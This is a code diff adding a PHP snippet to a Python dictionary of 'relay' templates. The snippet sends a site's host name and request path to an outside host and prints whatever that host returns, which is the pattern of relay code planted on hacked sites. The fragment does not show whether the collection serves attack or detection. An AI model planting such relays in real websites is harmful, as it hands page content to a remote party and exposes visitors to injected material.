@@ -94,6 +94,10 @@ RELAYS = {
               "$c = fetch_page($srv . '/?host=' . $h);\necho $c;\nfunction fetch_page($u) {\n"
               "  $ctx = stream_context_create(array('http' => array('method' => 'GET')));\n"
               "  $html = @file_get_contents($u, false, $ctx);\n  return $html;\n}\n",
+    "curl_helper": "<?php\n$str = get_content('http://html.example/proxy.php?' . $_SERVER['REQUEST_URI'] . '|' . "
+                   "$_SERVER['HTTP_HOST']);\necho $str;\nfunction get_content($url) {\n  $ch = curl_init();\n"
+                   "  curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  curl_setopt($ch, CURLOPT_URL, $url);\n"
+                   "  $data = curl_exec($ch);\n  return $data;\n}\n",
     "curl": "<?php\n$ch = curl_init('https://cdn.example/gen.php?d=' . urlencode($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']));"
             "\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$out = curl_exec($ch);\nprint $out;\n",
 }
